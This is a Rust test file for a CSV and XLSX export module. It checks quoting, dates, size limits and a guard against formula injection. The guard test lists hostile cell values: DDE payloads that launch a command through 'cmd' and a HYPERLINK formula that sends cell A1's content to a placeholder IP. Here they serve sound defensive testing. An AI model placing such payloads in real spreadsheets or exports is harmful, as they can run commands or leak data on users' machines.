use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use jiff::civil::{date, datetime};

use super::*;

const FORMULAS: [&str; 12] = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u{ff1d}1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")",
];

fn sheet() -> Sheet {
    let columns =
        [("who", Kind::Text), ("how many", Kind::Number), ("when", Kind::Time), ("on", Kind::Date)];
    let mut sheet = Sheet::new("Looks", &columns);
    sheet.rows.push(vec![
        "0123 \"x\", y".into(),
        Cell::Number(-3),
        Cell::Time(datetime(2026, 10, 8, 19, 50, 4, 0)),
        date(2026, 10, 8).into(),
    ]);
    sheet.rows.push(vec![Cell::Nothing; 4]);
    sheet
}

fn read_back(sheets: &[Sheet]) -> Xlsx<Cursor<Vec<u8>>> {
    let bytes = to_workbook(sheets).expect("a workbook");
    Xlsx::new(Cursor::new(bytes)).expect("a workbook that others read")
}

#[test]
fn csv_is_quoted_text_with_a_mark_and_plain_numbers() {
    let text = String::from_utf8(to_csv(&sheet()).unwrap()).unwrap();
    assert_eq!(
        text,
        "\u{feff}\"who\",\"how many\",\"when\",\"on\"\r\n\"0123 \"\"x\"\", y\",-3,2026-10-08 19:50:04,2026-10-08\r\n,,,\r\n"
    );
}

#[test]
fn what_begins_like_a_formula_is_none_in_either_form() {
    let mut sheet = Sheet::new("Cells", &[("=cell", Kind::Text)]);
    for text in FORMULAS {
        sheet.rows.push(vec![text.into()]);
    }
    let csv = to_csv(&sheet).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv[3..]);
    let rows: Vec<String> =
        reader.records().map(|row| row.unwrap().get(0).unwrap().to_owned()).collect();
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    assert_eq!(rows[0], "'=cell");
    for (row, text) in rows[1..].iter().zip(FORMULAS) {
        assert_eq!(*row, format!("'{text}"));
    }

    let mut workbook = read_back(&[sheet]);
    let formulas = workbook.worksheet_formula("Cells").unwrap();
    assert!(formulas.used_cells().next().is_none(), "nothing is a formula");
    let range = workbook.worksheet_range("Cells").unwrap();
    for (row, text) in (1..).zip(FORMULAS) {
        assert!(matches!(range.get_value((row, 0)), Some(Data::String(_))), "{text:?} is text");
    }
}

#[test]
fn plain_text_is_not_guarded() {
    let mut sheet = Sheet::new("Cells", &[("cell", Kind::Text)]);
    for text in ["O'Neill", "9990000018", "a=b", "334"] {
        sheet.rows.push(vec![text.into()]);
    }
    let text = String::from_utf8(to_csv(&sheet).unwrap()).unwrap();
    assert_eq!(text, "\u{feff}\"cell\"\r\n\"O'Neill\"\r\n\"9990000018\"\r\n\"a=b\"\r\n\"334\"\r\n");
    let range = read_back(&[sheet]).worksheet_range("Cells").unwrap();
    assert_eq!(range.get_value((2, 0)), Some(&Data::String("9990000018".to_owned())));
}

#[test]
fn days_and_times_are_what_they_are_in_a_workbook() {
    let old = Cell::Date(date(1900, 2, 28));
    let mut first = sheet();
    first.rows.push(vec![Cell::Nothing, Cell::Number(1 << 60), Cell::Nothing, old]);
    let range = read_back(&[first]).worksheet_range("Looks").unwrap();
    let Some(Data::DateTime(when)) = range.get_value((1, 2)) else { panic!("a time") };
    assert_eq!(when.to_ymd_hms_milli(), (2026, 10, 8, 19, 50, 4, 0));
    assert!(matches!(range.get_value((1, 3)), Some(Data::DateTime(_))));
    assert_eq!(range.get_value((1, 1)), Some(&Data::Float(-3.0)));
    assert_eq!(range.get_value((3, 1)), Some(&Data::String("1152921504606846976".to_owned())));
    assert_eq!(range.get_value((3, 3)), Some(&Data::String("1900-02-28".to_owned())));
}

#[test]
fn the_same_tables_give_the_same_bytes() {
    assert_eq!(to_workbook(&[sheet()]), to_workbook(&[sheet()]));
}

#[test]
fn what_does_not_fit_is_refused_and_not_cut() {
    let mut long = sheet();
    long.rows[0][0] = "x".repeat(CELL_CHARS_MAX + 1).into();
    assert_eq!(to_csv(&long), Err(SheetError::TooLong));
    assert_eq!(to_workbook(&[long]), Err(SheetError::TooLong));
    let mut many = Sheet::new("Many", &[("cell", Kind::Text)]);
    many.rows = vec![vec![Cell::Nothing]; ROWS_MAX + 1];
    assert_eq!(to_csv(&many), Err(SheetError::TooMany));
    let mut uneven = sheet();
    uneven.rows[0].pop();
    assert_eq!(to_csv(&uneven), Err(SheetError::Form));
    assert_eq!(to_workbook(&[sheet(), sheet()]), Err(SheetError::Form));
    assert_eq!(to_workbook(&[]), Err(SheetError::Form));
    assert_eq!(to_workbook(&vec![sheet(); SHEETS_MAX + 1]), Err(SheetError::TooMany));
}
